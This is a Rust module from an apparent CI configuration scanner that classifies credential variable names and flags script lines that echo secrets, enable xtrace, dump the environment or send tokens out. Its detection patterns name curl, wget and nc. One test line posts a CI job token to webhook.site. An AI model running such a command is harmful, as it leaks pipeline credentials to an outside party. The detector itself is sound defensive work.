//! What the CI adapters of GitLab, CircleCI, Azure Pipelines, Bitbucket and Jenkins share:
//! reading variable names and values (is this a credential, a cloud key, a literal or a
//! reference to a stored secret), image references, and the lines of a script that expose a
//! secret. Facts only; the rules decide what is bad.
//!
//! Every platform's adapter emits the same two subject shapes (see `docs/decisions.md`):
//! `<platform>.credential`, one per place a job receives a credential, and `<platform>.job`
//! (`bitbucket.step`, `jenkins.stage`), one per job, with the same attribute names.

use std::sync::LazyLock;

use regex::Regex;
use serde_json::{Map, Value, json};

use crate::model::{Anchor, Origin, Route, Step, Subject, redact};

/// A credential-looking variable name: a token, password, secret or key.
static CREDENTIAL_NAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(^|[_.-])(pass(word|wd)?|pwd|psw|secret|token|api_?key|access_?key|private_?key|secret_?key|client_?secret|credentials?|auth|pat)([_.-]|$)|(password|secret|token|apikey)$",
    )
    .expect("constant regex")
});

/// Names that carry a credential's *metadata*, not the credential: ids, names, paths, URLs.
static NOT_A_CREDENTIAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)([_.-](id|name|names|file|path|paths|dir|url|uri|host|user|username|email|arn|region|type|length|ttl|expiry|expires|endpoint|header|enabled|disabled|version|scope|scopes|audience|aud|role|issuer|count|prefix)$)|^(secret_detection|sast|ds|dast|container_scanning)_|^(no_)?auth$",
    )
    .expect("constant regex")
});

/// Long-lived cloud keys, by the environment variable that carries them.
static CLOUD_KEYS: LazyLock<[(Regex, &'static str); 3]> = LazyLock::new(|| {
    [
        (
            Regex::new(r"(?i)^(.*[_-])?aws[_-]secret([_-]access)?[_-]key$|^secret[_-]access[_-]key$")
                .expect("constant regex"),
            "aws",
        ),
        (
            Regex::new(
                r"(?i)^(google[_-](application[_-])?credentials([_-]json)?|gcloud[_-]service[_-]key|(gcp|gcloud|google|gke)[_-](sa|service[_-]account)[_-]key([_-]json)?|gcloud[_-]keyfile[_-]json|service[_-]account[_-]key([_-]json)?)$",
            )
            .expect("constant regex"),
            "gcp",
        ),
        (
            Regex::new(r"(?i)^(.*[_-])?(azure|arm)[_-]client[_-]secret$|^azure[_-]credentials$")
                .expect("constant regex"),
            "azure",
        ),
    ]
});

/// `$NAME`, `${NAME}`, `$(NAME)` (Azure), `%NAME%` (Windows), `$env:NAME` (PowerShell).
static VARIABLE_REF: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\$\{?(?:env:)?([A-Za-z_][A-Za-z0-9_.]*)\}?|\$\(([A-Za-z_][A-Za-z0-9_.]*)\)|%([A-Za-z_][A-Za-z0-9_]*)%")
        .expect("constant regex")
});

/// The `platform` attribute of the subjects of `provider` (`gitlab` → `gitlab-ci`).
pub(crate) fn platform(provider: &str) -> &'static str {
    match provider {
        "gitlab" => "gitlab-ci",
        "circleci" => "circleci",
        "azure" => "azure-pipelines",
        "bitbucket" => "bitbucket-pipelines",
        "jenkins" => "jenkins",
        _ => "ci",
    }
}

/// A subject of a pipeline file: `platform` and `workflow` (the file) set, so that the
/// extract stage attaches this context to a secret a detector finds in one of its values
/// and marks a credential subject holding it `detected` (one finding, both facts).
pub(crate) fn ci_subject(
    kind: &str,
    provider: &str,
    origin: &Origin,
    id: String,
    name: &str,
) -> Subject {
    let mut subject = Subject::new(kind, provider, id, name);
    subject.origin = origin.clone();
    subject
        .set(super::PLATFORM, platform(provider))
        .set("workflow", origin.path.to_string());
    subject
}

/// A value that is not a literal: a variable, an expression or a parameter.
pub(crate) fn is_reference(value: &str) -> bool {
    value.contains('$') || value.contains("<<") || value.contains("{{") || value.contains("#{")
}

/// `literal`, `reference` or `empty`: where a credential's value comes from.
pub(crate) fn value_source(value: &str) -> &'static str {
    let trimmed = value.trim();
    if trimmed.is_empty() {
        "empty"
    } else if is_reference(trimmed) {
        "reference"
    } else {
        "literal"
    }
}

/// The kind of credential a variable name announces, if any.
pub(crate) fn credential_purpose(name: &str) -> Option<&'static str> {
    if cloud_key(name).is_some() {
        return Some("cloud_key");
    }
    if NOT_A_CREDENTIAL.is_match(name) || !CREDENTIAL_NAME.is_match(name) {
        return None;
    }
    let lower = name.to_ascii_lowercase();
    Some(
        if lower.contains("pass") || lower.contains("pwd") || lower.contains("psw") {
            "password"
        } else if lower.contains("token") || lower.ends_with("pat") {
            "token"
        } else if lower.contains("key") {
            "key"
        } else {
            "secret"
        },
    )
}

/// The cloud whose long-lived key a variable name carries (`aws`, `gcp`, `azure`).
pub(crate) fn cloud_key(name: &str) -> Option<&'static str> {
    CLOUD_KEYS
        .iter()
        .find(|(re, _)| re.is_match(name))
        .map(|(_, cloud)| *cloud)
}

/// A literal that reads as configuration, not as a secret (`true`, `0`, `none`).
pub(crate) fn is_inert_literal(value: &str) -> bool {
    let lower = value.trim().to_ascii_lowercase();
    lower.len() < 3
        || matches!(
            lower.as_str(),
            "true" | "false" | "yes" | "no" | "none" | "null" | "off" | "on" | "required"
        )
        || lower.chars().all(|c| c.is_ascii_digit())
}

/// An upper-case variable name given where a value is expected: CircleCI orb parameters
/// of type `env_var_name` and similar take the name of the variable that holds the secret.
pub(crate) fn is_variable_name(value: &str) -> bool {
    let value = value.trim();
    value.len() > 2
        && value.contains('_')
        && value
            .chars()
            .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
}

/// The variables a line refers to (`$TOKEN`, `${TOKEN}`, `$(token)`).
pub(crate) fn referenced(line: &str) -> impl Iterator<Item = &str> {
    VARIABLE_REF.captures_iter(line).filter_map(|c| {
        c.get(1)
            .or_else(|| c.get(2))
            .or_else(|| c.get(3))
            .map(|m| m.as_str())
    })
}

/// A variable holding a credential that the platform injects or the project stores.
pub(crate) fn is_secret_name(name: &str) -> bool {
    credential_purpose(name).is_some()
        || matches!(
            name,
            "CI_JOB_TOKEN"
                | "CI_JOB_JWT"
                | "CI_JOB_JWT_V1"
                | "CI_JOB_JWT_V2"
                | "CI_REGISTRY_PASSWORD"
                | "CI_DEPLOY_PASSWORD"
                | "System.AccessToken"
                | "SYSTEM_ACCESSTOKEN"
        )
}

/// The secret variables a line refers to.
pub(crate) fn secret_refs(line: &str) -> Vec<&str> {
    referenced(line).filter(|n| is_secret_name(n)).collect()
}

/// One way a script line exposes a secret: its kind and the command, shortened.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Exposure {
    pub kind: &'static str,
    pub command: String,
}

static ECHO: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(^|[;&|(]\s*|\bthen\s+|\bdo\s+)(echo|printf|write-host|write-output|cat\s*<<<|print)\b")
        .expect("constant regex")
});
static XTRACE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(^|[;&]\s*)set\s+(-[a-wyz]*x[a-z]*|-o\s+xtrace)\b|\bbash\s+-[a-wyz]*x")
        .expect("constant regex")
});
static ENV_DUMP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^\s*(printenv|env|export\s+-p|set|get-childitem\s+env:|gci\s+env:|dir\s+env:)\s*(\||$|>|;)|os\.environ\)|\bdict\(os\.environ")
        .expect("constant regex")
});
static SEND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b(curl|wget|nc|ncat|Invoke-WebRequest|iwr)\b").expect("constant regex")
});

/// How a script line leaks secrets it can see: printed to the log (`echo $TOKEN`, `set -x`
/// in a job that holds secrets, an environment dump) or sent away on a command line (`curl
/// --data "$CI_JOB_JWT" https://…`). Redirections to a file are not printing.
pub(crate) fn exposures(line: &str, holds_secrets: bool) -> Vec<Exposure> {
    let mut found = Vec::new();
    let command = shorten(line.trim());
    let refs = secret_refs(line);
    let piped = line.replace("||", "").contains('|');
    let redirected = line.contains('>') || piped;
    if ECHO.is_match(line) && !refs.is_empty() && !redirected && !line.contains("##vso[") {
        found.push(Exposure {
            kind: "secret_echoed",
            command: command.clone(),
        });
    }
    if holds_secrets && XTRACE.is_match(line) {
        found.push(Exposure {
            kind: "xtrace_with_secrets",
            command: command.clone(),
        });
    }
    if ENV_DUMP.is_match(line) && !redirected {
        found.push(Exposure {
            kind: "environment_dumped",
            command: command.clone(),
        });
    }
    if SEND.is_match(line)
        && refs.iter().any(|r| {
            r.starts_with("CI_JOB_JWT") || *r == "CI_JOB_TOKEN" && line.contains("webhook")
        })
    {
        found.push(Exposure {
            kind: "token_sent",
            command,
        });
    }
    found
}

/// At most 120 characters of a command, for messages.
pub(crate) fn shorten(text: &str) -> String {
    let mut out: String = text.chars().take(120).collect();
    if out.len() < text.len() {
        out.push('…');
    }
    out
}

/// Long-lived cloud credentials used by a command: `aws configure set aws_secret_access_key`,
/// `gcloud auth activate-service-account --key-file`, `az login --service-principal -p`.
pub(crate) fn cloud_login(line: &str) -> Option<&'static str> {
    let lower = line.to_ascii_lowercase();
    if lower.contains("aws configure set aws_secret_access_key") {
        Some("aws")
    } else if lower.contains("gcloud auth activate-service-account") && lower.contains("key-file") {
        Some("gcp")
    } else if lower.contains("az login")
        && lower.contains("--service-principal")
        && !lower.contains("--federated-token")
        && (lower.contains(" -p ") || lower.contains("--password") || lower.contains("--secret"))
    {
        Some("azure")
    } else {
        None
    }
}

/// Where a fact was read: document index and route.
#[derive(Debug, Clone)]
pub(crate) struct At {
    pub doc: usize,
    pub route: Vec<Step>,
}

impl At {
    pub(crate) fn new(doc: usize, route: Vec<Step>) -> Self {
        Self { doc, route }
    }

    pub(crate) fn join(&self, step: impl Into<Step>) -> Self {
        let mut route = self.route.clone();
        route.push(step.into());
        Self {
            doc: self.doc,
            route,
        }
    }

    pub(crate) fn anchor(&self) -> Anchor {
        Anchor::Route {
            doc: self.doc,
            route: self.route.clone(),
        }
    }

    pub(crate) fn display(&self) -> String {
        Route(self.route.clone()).to_string()
    }
}

/// A credential a job receives, before it becomes a `<platform>.credential` subject.
#[derive(Debug, Clone)]
pub(crate) struct Credential {
    /// The variable or key that carries it.
    pub name: String,
    /// `cloud_key`, `password`, `token`, `key`, `secret`, `registry_password`.
    pub purpose: &'static str,
    /// `aws`, `gcp`, `azure` for cloud keys.
    pub cloud: Option<&'static str>,
    /// `literal`, `reference`, `empty`.
    pub source: &'static str,
    /// The value as shown: redacted when literal.
    pub shown: String,
    /// Where the value is.
    pub at: At,
}

impl Credential {
    /// A credential named `name` whose value is `value`, or `None` when the name is not a
    /// credential's.
    pub(crate) fn from_variable(name: &str, value: &str, at: At) -> Option<Self> {
        let purpose = credential_purpose(name)?;
        Some(Self::new(name, purpose, value, at))
    }

    pub(crate) fn new(name: &str, purpose: &'static str, value: &str, at: At) -> Self {
        let source = match value_source(value) {
            "literal" if is_inert_literal(value) && purpose != "cloud_key" => "empty",
            "literal" if is_variable_name(value) => "reference",
            other => other,
        };
        Self {
            name: name.to_owned(),
            purpose,
            cloud: cloud_key(name),
            source,
            shown: if source == "literal" {
                redact(value)
            } else {
                shorten(value)
            },
            at,
        }
    }

    /// The subject: `kind` is `<platform>.credential`; `job` the job (or `(pipeline)`).
    pub(crate) fn subject(
        &self,
        kind: &str,
        provider: &str,
        origin: &Origin,
        job: &str,
    ) -> Subject {
        let mut subject = ci_subject(
            kind,
            provider,
            origin,
            format!("{}#{}", origin.path, self.at.display()),
            &self.name,
        );
        subject.origin.whole = Some(self.at.anchor());
        let at = self.at.anchor();
        subject.set("job", job).set("name", self.name.as_str());
        for (attr, value) in [
            ("purpose", json!(self.purpose)),
            ("cloud", self.cloud.map_or(Value::Null, |c| json!(c))),
            ("value_source", json!(self.source)),
            ("value", json!(self.shown)),
        ] {
            subject.set(attr, value).anchor(attr, at.clone());
        }
        subject
    }
}

/// Records a list attribute of objects whose every field is located at the item's route
/// (`exposures[2].kind` → `deploy.script[4]`), so that a violated condition on an item
/// names where it was read.
pub(crate) fn set_located_list(
    subject: &mut Subject,
    attr: &str,
    items: Vec<(Map<String, Value>, At)>,
) {
    let mut values = Vec::with_capacity(items.len());
    for (i, (item, at)) in items.into_iter().enumerate() {
        for key in item.keys() {
            subject.anchor(&format!("{attr}[{i}].{key}"), at.anchor());
        }
        subject.anchor(&format!("{attr}[{i}]"), at.anchor());
        values.push(Value::Object(item));
    }
    subject.set(attr, Value::Array(values));
}

/// A string, or the text of a number or boolean scalar.
pub(crate) fn scalar(value: &Value) -> Option<String> {
    match value {
        Value::String(s) => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        Value::Bool(b) => Some(b.to_string()),
        _ => None,
    }
}

/// The lines of a script given as a string or a (possibly nested, `!reference`) list of
/// strings, each with the route of the item that holds it.
pub(crate) fn script_lines(value: &Value, at: &At, out: &mut Vec<(String, At)>) {
    match value {
        Value::String(text) => {
            for line in text.lines() {
                out.push((line.to_owned(), at.clone()));
            }
        }
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate().take(10_000) {
                if at.route.len() < 32 {
                    script_lines(item, &at.join(i), out);
                }
            }
        }
        _ => {}
    }
}

/// A job subject of `kind` (`circleci.job`, `azure.job`, `bitbucket.step`) located at `at`.
pub(crate) fn job_subject(
    kind: &str,
    provider: &str,
    origin: &Origin,
    name: &str,
    at: &At,
) -> Subject {
    let mut subject = ci_subject(
        kind,
        provider,
        origin,
        format!("{}#{}", origin.path, at.display()),
        name,
    );
    subject.origin.whole = Some(at.anchor());
    subject.set("name", name).set("job", name);
    subject
}

/// Sets `image` (copied, at `at`) and `image_pinned` (derived, at the same place).
pub(crate) fn set_image(subject: &mut Subject, image: &str, at: &At) {
    subject.set_from("image", image, at.doc, at.route.clone());
    subject.set("image_pinned", super::image_pinned(image));
    subject.anchor("image_pinned", at.anchor());
}

/// Sets `holds_credentials` and `credential_evidence` (why).
pub(crate) fn set_holds(subject: &mut Subject, evidence: Option<String>) {
    subject.set("holds_credentials", evidence.is_some());
    subject.set("credential_evidence", evidence.unwrap_or_default());
}

/// Credentials in an `env`/`environment`/`variables` mapping.
pub(crate) fn mapping_credentials(value: &Value, at: &At) -> Vec<Credential> {
    let Some(map) = value.as_object() else {
        return Vec::new();
    };
    map.iter()
        .filter_map(|(name, v)| {
            let text = scalar(v)?;
            Credential::from_variable(name, &text, at.join(name.as_str()))
        })
        .collect()
}

/// Long-lived cloud keys a script uses: a cloud login with a key, or a reference to a
/// cloud key variable. Nothing when the script assumes a role with an OIDC token.
pub(crate) fn script_credentials(lines: &[(String, At)]) -> Vec<Credential> {
    let federated = lines.iter().any(|(l, _)| {
        l.contains("assume-role-with-web-identity")
            || l.contains("AWS_WEB_IDENTITY_TOKEN_FILE")
            || l.contains("--federated-token")
            || l.contains("CIRCLE_OIDC_TOKEN")
            || l.contains("BITBUCKET_STEP_OIDC_TOKEN")
    });
    if federated {
        return Vec::new();
    }
    let mut out: Vec<Credential> = Vec::new();
    for (line, at) in lines {
        let login = cloud_login(line);
        let named = referenced(line).find(|n| cloud_key(n).is_some());
        let Some(cloud) = login.or_else(|| named.and_then(cloud_key)) else {
            continue;
        };
        if out.iter().any(|c| c.at.route == at.route) {
            continue;
        }
        out.push(Credential {
            name: named.map_or_else(|| "cloud login".to_owned(), str::to_owned),
            purpose: "cloud_key",
            cloud: Some(cloud),
            source: "reference",
            shown: shorten(line.trim()),
            at: at.clone(),
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_and_values() {
        for (name, purpose) in [
            ("AWS_SECRET_ACCESS_KEY", Some("cloud_key")),
            ("GOOGLE_CREDENTIALS", Some("cloud_key")),
            ("ARM_CLIENT_SECRET", Some("cloud_key")),
            ("DEPLOY_TOKEN", Some("token")),
            ("DOCKERHUB_PASSWORD", Some("password")),
            ("NPM_TOKEN", Some("token")),
            ("password", Some("password")),
            ("AWS_ACCESS_KEY_ID", None),
            ("TOKEN_URL", None),
            ("SECRET_DETECTION_EXCLUDED_PATHS", None),
            ("RUBY_VERSION", None),
            ("KEYWORDS", None),
        ] {
            assert_eq!(credential_purpose(name), purpose, "{name}");
        }
        assert_eq!(value_source("$PROD_KEY"), "reference");
        assert_eq!(value_source("${{ secrets.X }}"), "reference");
        assert_eq!(value_source("hunter22"), "literal");
        assert_eq!(value_source(" "), "empty");
    }

    #[test]
    fn script_exposures() {
        let kinds = |line: &str, holds| -> Vec<&str> {
            exposures(line, holds).iter().map(|e| e.kind).collect()
        };
        assert_eq!(kinds("echo $DEPLOY_TOKEN", false), ["secret_echoed"]);
        assert_eq!(
            kinds("echo \"${MY_OIDC_TOKEN}\" > /tmp/t", true),
            Vec::<&str>::new()
        );
        assert_eq!(kinds("echo hello", true), Vec::<&str>::new());
        assert_eq!(kinds("set -ex", true), ["xtrace_with_secrets"]);
        assert_eq!(kinds("set -ex", false), Vec::<&str>::new());
        assert_eq!(kinds("printenv", false), ["environment_dumped"]);
        assert_eq!(
            kinds(
                "curl -X POST --data \"$CI_JOB_JWT_V1\" https://webhook.site/x",
                false
            ),
            ["token_sent"]
        );
        assert_eq!(
            cloud_login("aws configure set aws_secret_access_key $K"),
            Some("aws")
        );
        assert_eq!(
            cloud_login("az login --service-principal -u $ID --federated-token $T"),
            None
        );
    }
}
